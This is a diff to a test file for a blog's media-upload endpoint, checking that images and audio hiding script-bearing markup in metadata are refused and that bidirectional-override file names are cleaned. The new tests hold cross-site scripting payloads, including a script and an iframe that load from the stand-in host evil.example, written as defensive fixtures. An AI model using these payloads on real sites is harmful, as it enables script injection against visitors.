@@ -85,9 +85,9 @@ describe('POST /postdata/media (images)', () => {
       ['song.png', files.mp3(), mediaMessages.wrongType('image')],
       ['cut.jpg', await files.truncatedJpeg(), mediaMessages.unreadable],
       ['bomb.png', await files.pixelFlood(), mediaMessages.pixelFlood],
-      ['zipped.jpg', await files.jpegWithZip(), mediaMessages.polyglot],
-      ['gifar.gif', await files.gifar(), mediaMessages.polyglot],
-      ['page.png', await files.pngWithScript(), mediaMessages.polyglot],
+      ['zipped.jpg', await files.jpegWithZip(), mediaMessages.polyglot('a ZIP archive')],
+      ['gifar.gif', await files.gifar(), mediaMessages.polyglot('a ZIP archive')],
+      ['page.png', await files.pngWithScript(), mediaMessages.polyglot('a tag <html>')],
       ['nothing.png', Buffer.alloc(0), mediaMessages.empty],
       ['huge.png', Buffer.concat([await files.png(), Buffer.alloc(10 * 1024 * 1024)]), mediaMessages.tooLarge('image')],
     ];
@@ -95,6 +95,41 @@ describe('POST /postdata/media (images)', () => {
     expect(response.statusCode).toBe(200);
     expect(results(response).map((r) => [r.fileName, r.status, r.fileUrl, r.message])).toEqual(bad.map(([name, , reason]) => [name, 0, '', reason]));
     expect(await api.deps.store.headPosition()).toBe(before);
+  });
+
+  it('refuses images and recordings that hide markup running script in their text (a PNG text chunk, a JPEG or GIF comment, an ID3 title), naming it; nothing is stored', async () => {
+    const before = await api.deps.store.headPosition();
+    const hidden: [string, Buffer, string][] = [
+      ['onload.png', await files.pngWithText('<svg/onload=alert(document.domain)>'), 'a tag <svg>'],
+      ['src.jpg', await files.jpegWithComment('<script/src=//evil.example/x.js></script>'), 'a tag <script>'],
+      ['onerror.gif', await files.gifWithComment('<img src=x onerror=alert(1)>'), 'an event handler onerror='],
+      ['upper.png', await files.pngWithText('<IMG SRC=x\fONERROR=alert(1)>'), 'an event handler onerror='],
+      ['quoted.jpg', await files.jpegWithComment('<b title="x"onpointerover=alert(1)>hover</b>'), 'an event handler onpointerover='],
+      ['link.gif', await files.gifWithComment('<a href="java\tscript:alert(1)">x</a>'), 'a javascript: link'],
+      ['frame.png', await files.pngWithText('<iframe/src=//evil.example>'), 'a tag <iframe>'],
+    ];
+    const images = results(await upload(blogger, '/postdata/media', hidden.map(([name, data]) => ({ name, data }))));
+    expect(images.map((r) => [r.fileName, r.status, r.message])).toEqual(hidden.map(([name, , found]) => [name, 0, mediaMessages.polyglot(found)]));
+    const song = results(await upload(admin, '/postdata/mediaAudio', [{ name: 'tagged.mp3', data: files.mp3WithTitle('<img src=x onerror=alert(1)>') }]));
+    expect(song.map((r) => [r.status, r.message])).toEqual([[0, mediaMessages.polyglot('an event handler onerror=')]]);
+    expect(await api.deps.store.headPosition()).toBe(before);
+  });
+
+  it('keeps images whose text only looks like markup, and decodes each hiding place as the image it was', async () => {
+    const sent = [
+      { name: 'caption.png', data: await files.pngWithText('A < B > C; see scripts/, <svgs> and online notes') },
+      { name: 'comment.jpg', data: await files.jpegWithComment('Taken at <dawn>, see <svgs> of it') },
+      { name: 'comment.gif', data: await files.gifWithComment('one=1 <b>bold</b>') },
+    ];
+    const answer = results(await upload(blogger, '/postdata/media', sent));
+    expect(answer.map((r) => [r.fileName, r.status])).toEqual(sent.map((s) => [s.name, 1]));
+  });
+
+  it('shows a file name without bidirectional controls: an override cannot disguise an .exe as a .png', async () => {
+    const answer = results(await upload(blogger, '/postdata/media', [{ name: 'holiday\u202egnp.exe', data: await files.png(9, 9, '#ab1') }]))[0]!;
+    expect(answer).toMatchObject({ status: 1, fileName: 'holidaygnp.exe' });
+    const [event] = await api.deps.store.readStream(mediaStream(hashOf(answer.fileUrl)));
+    expect(event!.data).toMatchObject({ originalName: 'holidaygnp.exe' });
   });
 
   it("answers 'Select File' to no file at all, and to a form whose file input was left empty", async () => {
